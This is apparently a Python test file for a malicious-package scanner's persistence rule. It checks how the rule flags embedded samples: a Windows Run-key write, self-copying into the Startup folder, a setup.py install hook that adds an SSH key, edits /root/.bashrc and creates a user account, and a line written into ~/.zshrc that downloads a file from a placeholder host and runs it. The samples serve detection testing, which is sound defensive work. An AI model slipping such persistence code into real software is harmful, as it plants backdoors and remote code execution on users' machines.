"""Ways to be started again."""

from lazaretto.detect.rules.python.persistence import RULE


def test_a_registry_key(scan):
    text = r"""import winreg, sys
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, "Update", 0, winreg.REG_SZ, sys.executable)
"""
    assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "HIGH", "import")]


def test_a_copy_of_itself(scan):
    text = r"""import shutil, os
def stay():
    shutil.copy(__file__, os.path.join(os.getenv("APPDATA"), "Microsoft/Windows/Start Menu/Programs/Startup/a.py"))
"""
    assert scan(RULE, text) == [(3, "MEDIUM", "MEDIUM", "run")]


def test_an_option_is_context(scan):
    text = r"""import subprocess
def enable():
    subprocess.run(["systemctl", "--user", "enable", "tool"])
"""
    assert scan(RULE, text) == [(3, "LOW", "MEDIUM", "run")]


def test_near_miss_reading_the_schedule(scan):
    text = r"""import subprocess
print("schtasks", subprocess.run(["schtasks", "/query"]))
"""
    assert scan(RULE, text) == []


def test_accounts_keys_and_start_files(scan):
    text = """
import os
from setuptools import setup
from setuptools.command.install import install
class Install(install):
    def run(self):
        open(os.path.expanduser("~/.ssh/authorized_keys"), "a").write("ssh-rsa AAAA")
        open("/root/.bashrc", "a").write("x")
        os.system("net user name pass /add")
setup(cmdclass={"install": Install})
"""
    assert scan(RULE, text, "setup.py") == [
        (7, "HIGH", "HIGH", "install"),
        (8, "HIGH", "HIGH", "install"),
        (9, "HIGH", "HIGH", "install"),
    ]


def test_near_miss_reading_a_start_file(scan):
    text = "import os\nfrom setuptools import setup\nopen(os.path.expanduser('~/.bashrc')).read()\nsetup()\n"
    assert scan(RULE, text, "setup.py") == []


def test_a_line_that_fetches_and_starts_something_in_a_start_file(scan):
    text = """import os
def colours():
    path = os.path.expanduser("~/.zshrc")
    with open(path, "a") as start:
        start.write("{line}")
"""
    fetches = "wget https://files.example.test/p -O /tmp/p && chmod +x /tmp/p && /tmp/p &"
    assert scan(RULE, text.format(line=fetches)) == [(4, "HIGH", "HIGH", "run")]
    assert scan(RULE, text.format(line="export PATH=$PATH:~/bin")) == [(4, "LOW", "MEDIUM", "run")]


def test_a_git_hook_and_a_forced_extension(scan):
    hook = 'open(".git/hooks/pre-commit", "w").write("#!/bin/sh")\n'
    assert scan(RULE, hook, "package/__init__.py") == [(1, "HIGH", "HIGH", "import")]
    assert scan(RULE, f"def install():\n    {hook}") == [(2, "LOW", "MEDIUM", "run")]
